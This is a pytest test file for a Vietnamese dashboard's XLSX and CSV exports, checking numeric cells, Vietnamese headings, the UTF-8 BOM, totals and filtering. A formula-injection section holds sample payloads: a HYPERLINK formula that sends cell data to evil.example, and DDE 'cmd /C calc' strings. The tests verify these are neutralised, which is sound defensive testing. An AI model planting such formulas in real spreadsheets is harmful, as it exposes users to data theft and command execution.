"""The dashboard's downloads (``?_export=xlsx`` and ``?_export=csv``): the table's rows and total, numbers as
numbers, Vietnamese headings, Excel-readable UTF-8, and no cell a spreadsheet would run as a formula.
"""

import csv
import io
from datetime import date

import pytest

from districts.models import UnitKind
from tests.factories import make_counted_report, make_district
from tests.spreadsheets import table_cells

pytestmark = pytest.mark.django_db

# The headings of the columns read below, as a Vietnamese user sees them.
UNIT, CODE, KIND = "Đơn vị", "Mã", "Loại"
RESOLVED, RECEIVED = "Đã giải quyết", "Tiếp nhận mới"
ON_TIME, RESOLUTION, PLAN = "Đúng hạn", "Giải quyết", "Kế hoạch"
REVIEWED, SIMPLIFIED, INSPECTED = "Rà soát", "Đơn giản hóa", "Kiểm tra nội bộ"
ON_TIME_NUM = "Tỷ lệ giải quyết đúng hạn – giải quyết đúng hạn và trước hạn"
ON_TIME_DEN = "Tỷ lệ giải quyết đúng hạn – đã giải quyết"
RESOLUTION_NUM = "Tỷ lệ giải quyết – đã giải quyết"
RESOLUTION_DEN = "Tỷ lệ giải quyết – phải giải quyết"


def xlsx_sheet(response):
    """The downloaded workbook's rows, as lists of openpyxl cells, the headings first."""
    return table_cells(response.content)


def xlsx_rows(response):
    """{heading: cell} for each row after the headings."""
    sheet = xlsx_sheet(response)
    headings = [cell.value for cell in sheet[0]]
    return [dict(zip(headings, row, strict=True)) for row in sheet[1:]]


def xlsx_row(response, code):
    return next(row for row in xlsx_rows(response) if row[CODE].value == code)


def csv_rows(response):
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


# --- The articles' figures, from the demo data ----------------------------------------------------------------------


def test_the_xlsx_is_named_after_the_province_and_period(demo_staff):
    response = demo_staff.get("/", {"province": "87", "period": "2021", "_export": "xlsx"})

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="cchc-87-2021.xlsx"'


def test_the_xlsx_has_thanh_binhs_rates_as_numbers(demo_staff):
    response = demo_staff.get("/", {"province": "87", "period": "2021", "_export": "xlsx"})

    row = xlsx_row(response, "874")
    # 86.041 / 86.048 → 99,99 %; 181/456 → 39,69 %; 36/181 → 19,89 %; 9/19 → 47,37 %; 18/35 → 51,43 %, each
    # as the fraction Excel shows with its percent format
    assert {heading: row[heading].value for heading in (ON_TIME, REVIEWED, SIMPLIFIED, INSPECTED, PLAN)} == {
        ON_TIME: 0.9999,
        REVIEWED: 0.3969,
        SIMPLIFIED: 0.1989,
        INSPECTED: 0.4737,
        PLAN: 0.5143,
    }
    assert all(row[heading].data_type == "n" for heading in (ON_TIME, REVIEWED, SIMPLIFIED, INSPECTED, PLAN))
    assert row[UNIT].value == "Huyện Thanh Bình"


def test_the_xlsx_has_the_counts_as_whole_numbers(demo_staff):
    response = demo_staff.get("/", {"province": "87", "period": "2021", "_export": "xlsx"})

    row = xlsx_row(response, "874")
    assert (row[ON_TIME_NUM].value, row[ON_TIME_DEN].value, row[RESOLVED].value) == (86041, 86048, 86048)
    assert all(isinstance(row[heading].value, int) for heading in (ON_TIME_NUM, ON_TIME_DEN, RESOLVED))
    assert row[RESOLVED].data_type == "n"


def test_the_xlsx_leaves_a_blank_figure_and_a_rate_without_value_empty_not_zero(demo_staff):
    response = demo_staff.get("/", {"province": "87", "period": "2021", "_export": "xlsx"})

    row = xlsx_row(response, "874")
    # Received is not in the article, so neither is the resolution rate
    assert (row[RECEIVED].value, row[RESOLUTION].value, row[RESOLUTION_DEN].value) == (None, None, None)


def test_the_xlsx_has_dak_songs_rates_and_counts(demo_staff):
    response = demo_staff.get("/", {"province": "67", "period": "2023H1", "_export": "xlsx"})

    row = xlsx_row(response, "665")
    # 10.840 / 12.530 → 86,51 %; 12.530 / 15.051 → 83,25 %
    assert (row[ON_TIME].value, row[ON_TIME_NUM].value, row[ON_TIME_DEN].value) == (0.8651, 10840, 12530)
    assert (row[RESOLUTION].value, row[RESOLUTION_NUM].value, row[RESOLUTION_DEN].value) == (0.8325, 12530, 15051)


def test_the_xlsx_has_bac_yens_rates(demo_staff):
    response = demo_staff.get("/", {"province": "14", "period": "2018H1", "_export": "xlsx"})

    row = xlsx_row(response, "121")
    # 14.506/14.506 → 100 %; 14.506/14.607 → 99,31 %; 250/295 → 84,75 %
    assert (row[ON_TIME].value, row[RESOLUTION].value, row[PLAN].value) == (1, 0.9931, 0.8475)


def test_the_xlsx_ends_with_the_total_row(demo_staff):
    response = demo_staff.get("/", {"province": "87", "period": "2021", "_export": "xlsx"})

    rows = xlsx_rows(response)
    total = rows[-1]
    # Twelve districts, then the total; only Thanh Bình reported in 2021
    assert len(rows) == 13
    assert total[UNIT].value == "Tổng cộng"
    assert (total[ON_TIME].value, total[ON_TIME_NUM].value, total[ON_TIME_DEN].value) == (0.9999, 86041, 86048)


def test_the_xlsx_headings_are_in_vietnamese(demo_staff):
    response = demo_staff.get("/", {"province": "87", "period": "2021", "_export": "xlsx"})

    headings = [cell.value for cell in xlsx_sheet(response)[0]]
    assert headings[:6] == [UNIT, CODE, KIND, "Phải giải quyết", RECEIVED, RESOLVED]
    assert ON_TIME in headings
    assert ON_TIME_NUM in headings


def test_the_csv_starts_with_a_byte_order_mark_and_is_utf8(demo_staff):
    response = demo_staff.get("/", {"province": "67", "period": "2023H1", "_export": "csv"})

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="cchc-67-2023H1.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")
    # The heading "Đơn vị" in UTF-8, right after the mark
    assert response.content[3:].startswith("Đơn vị,Mã,Loại".encode())


def test_the_csv_has_dak_songs_row_with_vietnamese_headings(demo_staff):
    response = demo_staff.get("/", {"province": "67", "period": "2023H1", "_export": "csv"})

    row = next(row for row in csv_rows(response) if row[CODE] == "665")
    assert row[UNIT] == "Huyện Đắk Song"
    assert row[KIND] == "huyện"
    # 86,51 % from 10.840 / 12.530; 83,25 % from 12.530 / 15.051
    assert (row[ON_TIME], row[ON_TIME_NUM], row[ON_TIME_DEN]) == ("86.51", "10840", "12530")
    assert (row[RESOLUTION], row[RESOLUTION_NUM], row[RESOLUTION_DEN]) == ("83.25", "12530", "15051")
    # Blank stays blank
    assert row["Trực tuyến"] == ""


# --- Built cases -----------------------------------------------------------------------------------------------------


def district_with(dong_thap, code, in_time, resolved, name=None, kind=UnitKind.DISTRICT):
    district = make_district(dong_thap, code, name or f"Huyện {code}", kind=kind)
    late = resolved - in_time if None not in (in_time, resolved) else None
    make_counted_report(district, 2023, 1, resolved=resolved, resolved_in_time=in_time, resolved_late=late)
    return district


def test_the_exported_total_is_the_ratio_of_the_sums(staff_client, dong_thap):
    district_with(dong_thap, "874", 79200, 80000)
    district_with(dong_thap, "875", 400, 800)
    district_with(dong_thap, "876", None, 1000)

    total = xlsx_rows(staff_client.get("/", {"period": "2023Q1", "_export": "xlsx"}))[-1]

    # (79.200 + 400) / (80.000 + 800) = 98,51 %; 876 has no in-time count and stays out of the pair
    assert (total[ON_TIME].value, total[ON_TIME_NUM].value, total[ON_TIME_DEN].value) == (0.9851, 79600, 80800)
    assert total[RESOLVED].value == 81800


def test_a_zero_denominator_exports_an_empty_rate_not_zero(staff_client, dong_thap):
    district_with(dong_thap, "874", 0, 0)

    xlsx = xlsx_row(staff_client.get("/", {"period": "2023Q1", "_export": "xlsx"}), "874")
    csv_row = csv_rows(staff_client.get("/", {"period": "2023Q1", "_export": "csv"}))[0]

    assert (xlsx[ON_TIME].value, xlsx[RESOLVED].value) == (None, 0)
    assert (csv_row[ON_TIME], csv_row[RESOLVED]) == ("", "0")


def test_the_export_keeps_the_rows_the_filters_keep_in_the_order_asked(staff_client, dong_thap):
    district_with(dong_thap, "874", 99, 100)
    district_with(dong_thap, "875", 50, 100)
    district_with(dong_thap, "866", 90, 100, name="Thành phố Cao Lãnh", kind=UnitKind.PROVINCIAL_CITY)
    district_with(dong_thap, "867", 70, 100, name="Thành phố Sa Đéc", kind=UnitKind.PROVINCIAL_CITY)

    response = staff_client.get(
        "/", {"period": "2023Q1", "kind": UnitKind.DISTRICT, "sort": "-on_time_rate", "_export": "xlsx"}
    )

    rows = xlsx_rows(response)
    assert [row[CODE].value for row in rows[:-1]] == ["874", "875"]
    # The total of the rows kept: (99 + 50) / (100 + 100) = 74,50 %
    assert rows[-1][ON_TIME].value == 0.745


def test_the_export_of_a_below_threshold_filter_has_only_the_units_below(staff_client, dong_thap):
    district_with(dong_thap, "874", 99, 100)
    district_with(dong_thap, "875", 50, 100)
    district_with(dong_thap, "876", None, 100)

    rows = csv_rows(
        staff_client.get("/", {"period": "2023Q1", "indicator": "on_time_rate", "below": "90", "_export": "csv"})
    )

    assert [row[CODE] for row in rows] == ["875", ""]


# --- Formula injection ------------------------------------------------------------------------------------------------

HOSTILE_NAMES = {
    "801": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "802": "+cmd|' /C calc'!A0",
    "803": "@SUM(1+1)*cmd|' /C calc'!A0",
    "804": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile_units(dong_thap):
    for code, name in HOSTILE_NAMES.items():
        district_with(dong_thap, code, 9, 10, name=name)
    district_with(dong_thap, "874", 9, 10, name="Huyện Thanh Bình")


def test_the_csv_prefixes_a_name_that_starts_like_a_formula_with_an_apostrophe(staff_client, hostile_units):
    rows = csv_rows(staff_client.get("/", {"period": "2023Q1", "_export": "csv"}))

    names = {row[CODE]: row[UNIT] for row in rows}
    for code, name in HOSTILE_NAMES.items():
        assert names[code] == "'" + name
    assert names["874"] == "Huyện Thanh Bình"


def test_the_xlsx_keeps_a_formula_like_name_as_inert_text(staff_client, hostile_units):
    rows = xlsx_rows(staff_client.get("/", {"period": "2023Q1", "_export": "xlsx"}))

    cells = {row[CODE].value: row[UNIT] for row in rows}
    for code, name in HOSTILE_NAMES.items():
        assert cells[code].value == "'" + name
        assert cells[code].data_type == "s"
    assert cells["874"].value == "Huyện Thanh Bình"


def test_no_exported_text_cell_starts_like_a_formula(staff_client, hostile_units):
    sheet = xlsx_sheet(staff_client.get("/", {"period": "2023Q1", "_export": "xlsx"}))

    texts = [cell.value for row in sheet for cell in row if isinstance(cell.value, str)]
    assert not [text for text in texts if text[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not [cell for row in sheet for cell in row if cell.data_type == "f"]


def test_a_unit_abolished_before_the_period_is_not_exported(staff_client, dong_thap):
    district_with(dong_thap, "874", 9, 10)
    make_district(dong_thap, "875", valid_until=date(2022, 12, 31))

    rows = csv_rows(staff_client.get("/", {"period": "2023Q1", "_export": "csv"}))

    assert [row[CODE] for row in rows] == ["874", ""]
